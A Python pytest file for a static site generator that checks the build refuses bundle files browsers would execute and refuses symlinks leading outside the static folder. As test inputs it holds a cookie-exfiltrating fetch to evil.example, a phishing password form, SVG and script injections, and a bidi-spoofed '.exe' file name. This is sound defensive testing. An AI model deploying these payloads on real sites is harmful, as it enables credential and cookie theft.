"""What a build may publish besides rendered pages: bundle files by type, static files without outside links
(issue 20, #2, #3 and the bidi-in-file-names item)."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from generator.sources.assets import refusal
from tests.conftest import run_build

BUNDLE_INDEX = '---\ntitle: "Forms"\ndate: 2026-11-01T10:00:00+04:00\n---\nSee the form.\n'


def bundle_site(make_site: Callable[..., Path], name: str, data: bytes) -> Path:
    return make_site({"content/announcements/forms/index.en.md": BUNDLE_INDEX,
                      f"content/announcements/forms/{name}": data})


@pytest.mark.parametrize(("name", "data"), [
    ("form.html", b"<form action='https://evil.example/'>Password: <input name=p></form>"),
    ("steal.js", b"fetch('https://evil.example/?'+document.cookie)"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ("page.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
    ("README", b"no suffix"),
    ("invoice\u202efdp.exe", b"MZ"),
    ("photo\u200f.jpg", b"\xff\xd8\xff"),
])
def test_a_bundle_file_a_browser_would_run_is_a_located_error(make_site: Callable[..., Path], name: str,
                                                               data: bytes) -> None:
    root = bundle_site(make_site, name, data)
    report = run_build(root)
    assert not report.ok
    problem = report.errors[0]
    assert problem.location.path == f"content/announcements/forms/{name}"
    assert problem.hint
    assert not (root / "public").exists()


@pytest.mark.parametrize("name", ["photo.JPG", "report.pdf", "budget.xlsx", "speech.mp3", "clip.webm", "clip.vtt"])
def test_media_and_documents_in_a_bundle_are_published(make_site: Callable[..., Path], name: str) -> None:
    data = b"\x00data"
    if name.endswith(".JPG"):  # an image is read (generator/media.py): a real one, with nothing to strip
        out = io.BytesIO()
        Image.new("RGB", (40, 30), (10, 20, 30)).save(out, "JPEG")
        data = out.getvalue()
    root = bundle_site(make_site, name, data)
    report = run_build(root)
    assert report.ok, [p.format() for p in report.errors]
    published = list((root / "public").rglob(name))
    assert len(published) == 1 and published[0].read_bytes() == data  # once, for every language


def test_every_refusal_names_a_fix() -> None:
    for name in ("a.html", "a.js", "a.svg", "a.css", "a", "a\u202e.pdf"):
        found = refusal(name)
        assert found is not None and found[1]
    assert refusal("a.PDF") is None


def test_a_static_link_to_outside_its_folder_is_a_located_error(make_site: Callable[..., Path], tmp_path: Path) -> None:
    secret = tmp_path / "environ"
    secret.write_text("CI_TOKEN=hunter2\n")
    root = make_site()
    (root / "static").mkdir()
    (root / "static" / "env.txt").symlink_to(secret)
    report = run_build(root)
    assert not report.ok
    assert report.errors[0].location.path == "static/env.txt"
    assert "outside" in report.errors[0].message
    published = root / "public"
    assert not any(b"hunter2" in p.read_bytes() for p in published.rglob("*") if p.is_file())


def test_a_static_folder_linked_to_outside_is_refused_too(make_site: Callable[..., Path], tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("hunter2")
    root = make_site()
    (root / "static").mkdir()
    (root / "static" / "docs").symlink_to(outside, target_is_directory=True)
    report = run_build(root)
    assert not report.ok
    assert report.errors[0].location.path == "static/docs"


def test_a_static_link_inside_its_folder_is_published(make_site: Callable[..., Path]) -> None:
    root = make_site({"static/css/real.css": "body{}"})
    (root / "static" / "alias.css").symlink_to(root / "static" / "css" / "real.css")
    report = run_build(root)
    assert report.ok, [p.format() for p in report.errors]
    assert (root / "public/static/alias.css").read_text() == "body{}"
